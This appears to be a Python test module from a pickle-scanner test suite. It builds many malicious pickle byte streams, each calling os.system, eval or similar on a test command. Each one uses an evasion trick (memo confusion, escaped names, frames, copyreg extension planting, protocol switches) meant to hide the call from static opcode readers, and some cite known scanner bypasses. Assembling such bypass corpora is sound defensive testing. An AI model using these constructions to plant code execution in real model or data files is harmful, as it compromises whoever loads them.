"""The same call, spelt so that a reader of opcodes does not see it: every way to name and to call, memo and stack."""

from __future__ import annotations

import struct

from tests.attacks import sources
from tests.attacks.assembly import call, line, listed, mapped, name, number, stream, text
from tests.attacks.case import Family, Marker

CASES = Family("spellings")


def confused_memo(marker: Marker) -> bytes:
    """What is put by number and what is put by MEMOIZE, so that a reader who counts only the latter is misled."""
    names = b"".join(
        b"U" + bytes((len(word),)) + word + b"q" + bytes((index,)) for index, word in enumerate((b"os", b"system"))
    )
    decoys = text("torch._utils") + b"\x94" + text("_rebuild_tensor_v2") + b"\x94"
    return b"\x80\x04" + names + decoys + b"h\x00h\x01\x93" + text(marker.command) + b"\x85R."


def late_memo(marker: Marker) -> bytes:
    """The memo is filled with innocent names after the hostile ones, under lower numbers."""
    puts = b"".join(
        line(word) + b"p%d\n0" % index for word, index in (("os", 2), ("system", 3), ("torch", 0), ("LongStorage", 1))
    )
    return puts + b"g2\ng3\n\x93(" + line(marker.command) + b"tR."


def overwritten_memo(marker: Marker) -> bytes:
    """One number, put twice: the later value counts."""
    first = text("collections") + b"q\x00" + text("OrderedDict") + b"q\x0100"
    again = text("os") + b"q\x00" + text("system") + b"q\x01\x93"
    return b"\x80\x04" + first + again + text(marker.command) + b"\x85R."


def long_memo(marker: Marker) -> bytes:
    pieces = b"".join(
        text(word) + b"r" + struct.pack("<I", index) + b"0" for word, index in (("os", 70000), ("system", 70001))
    )
    gets = b"".join(b"j" + struct.pack("<I", index) for index in (70000, 70001))
    return b"\x80\x04" + pieces + gets + b"\x93" + text(marker.command) + b"\x85R."


def wide_name(word: str) -> bytes:
    return b"\x8d" + struct.pack("<Q", len(word)) + word.encode()


def registered_extension(marker: Marker) -> bytes:
    add = call(name("copyreg", "add_extension"), text("os"), text("system"), number(241)) + b"0"
    return stream(add, b"\x82\xf1", text(marker.command), b"\x85R")


def planted_extension(marker: Marker) -> bytes:
    """The registry is a plain dict that anyone can name."""
    planted = name("copyreg", "_inverted_registry") + number(242) + text("os") + text("system") + b"\x86s0"
    return stream(planted, b"\x84" + struct.pack("<i", 242), text(marker.command), b"\x85R")


CASES.add(
    "inst",
    "INST finds and calls in one opcode",
    sources.SOUR_PICKLES,
    lambda m: b"(S" + repr(m.command).encode() + b"\nios\nsystem\n.",
)
CASES.add(
    "obj",
    "OBJ calls what lies after the mark",
    sources.FICKLING_OBJ,
    lambda m: b"(cos\nsystem\nS" + repr(m.command).encode() + b"\no.",
)
CASES.add(
    "obj-stack-global",
    "OBJ with a name from STACK_GLOBAL",
    sources.FICKLING_OBJ,
    lambda m: stream(b"(", name("os", "system"), text(m.command), b"o"),
)
CASES.add(
    "newobj",
    "NEWOBJ of a class whose __new__ calls: map, drained by NEWOBJ of tuple",
    sources.BYPASS_GAME,
    lambda m: stream(
        name("builtins", "tuple"),
        name("builtins", "map"),
        name("os", "system"),
        listed(text(m.command)),
        b"\x86\x81\x85\x81",
    ),
)
CASES.add(
    "newobj-ex",
    "NEWOBJ_EX with keywords",
    sources.PICKLETOOLS,
    lambda m: stream(
        name("builtins", "tuple"),
        name("builtins", "map"),
        name("os", "system"),
        listed(text(m.command)),
        b"\x86}\x92\x85}\x92",
    ),
)
CASES.add("confused-memo", "BINPUT and MEMOIZE share one memo", sources.PICKLESCAN_MEMO, confused_memo)
CASES.add(
    "late-memo",
    "PUT out of order, POP, innocent names under the lower numbers",
    sources.PICKLESCAN_SAFE_PICKLE,
    late_memo,
)
CASES.add("overwritten-memo", "a number of the memo is put twice", sources.PICKLESCAN_MEMO, overwritten_memo)
CASES.add("long-memo", "LONG_BINPUT and LONG_BINGET", sources.PICKLESCAN_MEMO, long_memo)
CASES.add(
    "names-by-string",
    "STACK_GLOBAL of texts from STRING, which some readers do not take for texts",
    sources.picklescan("GHSA-9gvj-pp9x-gcfr"),
    lambda m: b"S'os'\nS'system'\n\x93S" + repr(m.command).encode() + b"\n\x85R.",
)
CASES.add(
    "names-by-dup",
    "STACK_GLOBAL of one text, doubled by DUP: timeit.timeit",
    sources.PICKLETOOLS,
    lambda m: stream(text("timeit"), b"2\x93", text(m.code), b"\x85R"),
)
CASES.add(
    "callable-by-dup",
    "the callable is doubled; the first copy makes data, the second the call",
    sources.PICKLETOOLS,
    lambda m: stream(name("builtins", "eval"), b"2", text("1"), b"\x85R0", text(m.code), b"\x85R"),
)
CASES.add(
    "names-escaped",
    "names written with \\u escapes",
    sources.PICKLETOOLS,
    lambda m: b"V\\u006f\\u0073\nV\\u0073ystem\n\x93" + line(m.command) + b"\x85R.",
)
CASES.add(
    "string-escaped",
    "a name by STRING with \\x escapes",
    sources.SOUR_PICKLES,
    lambda m: b"S'\\x6f\\x73'\nS'\\x73ystem'\n\x93" + line(m.command) + b"\x85R.",
)
CASES.add(
    "names-binunicode8",
    "names with lengths of eight bytes",
    sources.PICKLETOOLS,
    lambda m: stream(wide_name("os"), wide_name("system"), b"\x93", wide_name(m.command), b"\x85R"),
)
CASES.add(
    "names-binstring",
    "names by BINSTRING",
    sources.PICKLETOOLS,
    lambda m: stream(b"T\x02\x00\x00\x00os", b"U\x06system", b"\x93", text(m.command), b"\x85R"),
)
CASES.add(
    "text-protocol",
    "protocol 0, no header",
    sources.SOUR_PICKLES,
    lambda m: b"cos\nsystem\n(S" + repr(m.command).encode() + b"\ntR.",
)
CASES.add(
    "text-protocol-eval",
    "protocol 0 with a name of Python 2",
    sources.PICKLESCAN_TESTS,
    lambda m: b"c__builtin__\neval\n(V" + m.code.encode() + b"\ntR.",
)
CASES.add(
    "python-2-commands",
    "a module of Python 2 that is subprocess now",
    sources.PICKLESCAN_TESTS,
    lambda m: b"\x80\x02ccommands\ngetoutput\n" + text_2(m.command) + b"\x85R.",
)
CASES.add(
    "python-2-reduce",
    "__builtin__.reduce is functools.reduce now: reduce(getattr, ['system'], os)",
    sources.SOUR_PICKLES,
    lambda m: (
        b"\x80\x02c__builtin__\nreduce\n(c__builtin__\ngetattr\n](" + text_2("system") + b"e"
        b"c__builtin__\n__import__\n" + text_2("os") + b"\x85RtR(" + text_2(m.command) + b"tR."
    ),
)
CASES.add(
    "popped",
    "the result of the call is dropped, and data follows",
    sources.FICKLING_POP,
    lambda m: stream(call(name("os", "system"), text(m.command)), b"0", mapped((text("weights"), listed(number(1))))),
)
CASES.add(
    "popped-with-mark",
    "the call stands between MARK and POP_MARK",
    sources.FICKLING_POP,
    lambda m: stream(b"(", call(name("os", "system"), text(m.command)), b"1", listed(number(1))),
)
CASES.add(
    "under-the-result",
    "the call is left on the stack below what STOP takes",
    sources.FICKLING_POP,
    lambda m: stream(call(name("os", "system"), text(m.command)), listed(number(1))),
)
CASES.add(
    "used-by-build",
    "the result becomes an attribute, so that it is not unused",
    sources.FICKLING_PRIVATE,
    lambda m: stream(
        call(name("builtins", "Exception")), mapped((text("status"), call(name("os", "system"), text(m.command)))), b"b"
    ),
)
CASES.add(
    "protocol-changes",
    "PROTO in the middle, down to 0 and up again",
    sources.PICKLETOOLS,
    lambda m: b"\x80\x05N0\x80\x00N0\x80\x04" + call(name("os", "system"), text(m.command)) + b".",
)
CASES.add(
    "frames",
    "the call is cut into frames",
    sources.PICKLETOOLS,
    lambda m: b"\x80\x04" + framed(name("os", "system")) + framed(text(m.command) + b"\x85R."),
)
CASES.add("registered-extension", "copyreg.add_extension, then EXT1", sources.PEP_307, registered_extension)
CASES.add("planted-extension", "a code is planted in copyreg's registry, then EXT4", sources.PEP_307, planted_extension)
CASES.add(
    "unknown-extension",
    "EXT2 of a code that nobody registered",
    sources.PEP_307,
    lambda m: stream(b"\x83\x39\x30"),
    effect="refused",
)
CASES.add(
    "persistent-id",
    "a persistent id, which the reader's own code would look up",
    sources.PYTHON_DOCS,
    lambda m: stream(text(m.path), b"Q"),
    effect="refused",
)


def text_2(value: str) -> bytes:
    return b"U" + bytes((len(value),)) + value.encode()


def framed(opcodes: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(opcodes)) + opcodes
